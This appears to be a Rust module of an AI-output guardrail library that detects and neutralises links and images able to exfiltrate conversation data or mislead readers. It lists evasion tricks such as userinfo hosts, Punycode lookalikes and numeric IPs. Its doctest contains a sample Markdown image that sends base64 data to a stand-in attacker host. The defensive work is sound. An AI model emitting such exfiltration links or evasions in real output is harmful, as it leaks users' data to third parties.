mod carried;
mod host;
mod punycode;
mod scan;
mod syntax;
mod tag;
mod url;

use std::sync::Arc;

use serde::{Deserialize, Serialize};

use self::{carried::Words, host::Hosts, scan::LinkScan, syntax::REACH};
use crate::{Basis, Context, Error, Guard, Reach, Result, Scan};

/// Which links may stand in a text.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct LinkConfig {
    /// Hosts that are trusted, as `example.com`, or `*.example.com` for all below it.
    pub allow: Vec<String>,
    /// Hosts that are never linked to, written alike; they go before those allowed.
    pub deny: Vec<String>,
    /// Images, and tags that load by themselves, from hosts that are not trusted: nobody has to click for what they carry to be gone.
    pub images: LinkAction,
    /// Links to hosts that are not trusted.
    pub links: LinkAction,
    /// Links that hide where they lead or carry data, that are denied, or longer than 2,048 bytes.
    pub suspicious: LinkAction,
    /// `javascript:`, `vbscript:` and `data:` URLs, which act or hold a page of their own.
    pub scripts: LinkAction,
    /// Bytes that a query may have on hosts that are not trusted.
    pub longest_query: usize,
    /// Words of the conversation (its instructions, question and sources) that a query or a host name may hold; a path may hold three
    /// times as many, because titles stand in paths.
    pub words: usize,
}

impl Default for LinkConfig {
    /// Trusts no host; takes away images and what is suspicious, and lets plain links be.
    fn default() -> Self {
        Self {
            allow: Vec::new(),
            deny: Vec::new(),
            images: LinkAction::Neutralise,
            links: LinkAction::Pass,
            suspicious: LinkAction::Neutralise,
            scripts: LinkAction::Neutralise,
            longest_query: 256,
            words: 3,
        }
    }
}

/// What is done about a link.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum LinkAction {
    /// It is no finding.
    Pass,
    /// It is recorded.
    Note,
    /// An image is replaced by its alternative text, a link by the text that it shows, a bare address by `[link removed]`.
    Neutralise,
    /// The text ends before it.
    Block,
}

/// Finds links that could carry data to somebody else, or a reader to a place that is not what it looks like.
///
/// It reads Markdown (inline, by reference, autolinks), HTML tags with addresses in them, and bare addresses, and takes host names as
/// browsers do (the WHATWG URL standard): `https://good.example@evil.example`, backslashes, entities, percent signs, numbers for IP
/// addresses and Punycode (RFC 3492) change nothing. Findings are `script_url`, `data_url`, `long_url`, `denied_host`, `userinfo`,
/// `ip_host`, `lookalike_host`, `carries_data`, `image` and `link`, the gravest that fits.
///
/// An address longer than 2,048 bytes is found as `long_url` up to there.
///
/// ```
/// use jarre_guardrails::{Context, Effect, Guard, content::{LinkConfig, LinkGuard}};
///
/// let guard = LinkGuard::new(LinkConfig { allow: vec!["docs.example".into()], ..LinkConfig::default() })?;
/// let found = guard.check("See ![the plan](https://evil.example/p.png?q=c2VjcmV0).", &Context::default())?;
/// assert_eq!(found[0].effect, Effect::Replace("the plan".into()));
/// assert!(guard.check("See ![the plan](https://docs.example/p.png).", &Context::default())?.is_empty());
/// # Ok::<(), jarre_guardrails::Error>(())
/// ```
#[derive(Clone, Debug)]
pub struct LinkGuard(Arc<Rules>);

#[derive(Debug)]
pub(crate) struct Rules {
    config: LinkConfig,
    allow: Hosts,
    deny: Hosts,
}

impl LinkGuard {
    /// A guard that lets such links be.
    ///
    /// # Errors
    /// [`Error::Config`] where a host is none.
    pub fn new(config: LinkConfig) -> Result<Self> {
        let hosts = |hosts: &[String]| Hosts::new(hosts).map_err(|host| Error::config("links", format!("`{host}` is no host name")));
        Ok(Self(Arc::new(Rules { allow: hosts(&config.allow)?, deny: hosts(&config.deny)?, config })))
    }
}

impl Guard for LinkGuard {
    fn name(&self) -> &'static str {
        "links"
    }

    fn reach(&self) -> Reach {
        Reach::Bytes(REACH + 16)
    }

    fn basis(&self) -> Basis {
        Basis::Context
    }

    fn scan(&self, context: &Context) -> Box<dyn Scan> {
        Box::new(LinkScan::new(Arc::clone(&self.0), Words::of(context)))
    }
}
